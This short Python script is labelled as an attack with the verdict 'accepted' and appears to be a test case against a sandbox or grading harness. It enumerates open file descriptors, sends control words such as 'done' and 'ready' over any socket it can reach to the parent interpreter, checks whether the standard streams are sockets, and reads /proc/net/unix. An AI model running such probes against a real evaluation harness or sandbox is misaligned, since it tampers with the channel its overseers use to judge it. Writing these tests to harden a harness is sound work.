# Attack: talks to the interpreter that it was forked from, over every descriptor there may be, and looks for its socket.
# Verdict: accepted
import os, socket

told = []
for number in range(3, 1024):
    try:
        os.fstat(number)
        told.append(f'descriptor {number}')
    except OSError:
        continue
    for word in (b'done', b'g', b'ready', b''):
        try:
            socket.socket(fileno=number).send(word)
            told.append(f'sent to {number}')
        except OSError:
            pass
for number in (0, 1, 2):
    try:
        end = socket.socket(fileno=os.dup(number))
        told.append(f'{number} is a socket: {end.family}')
    except OSError:
        pass
for line in list(open('/proc/net/unix'))[1:]:
    told.append(line)
print(*told or ['unharmed'], input())
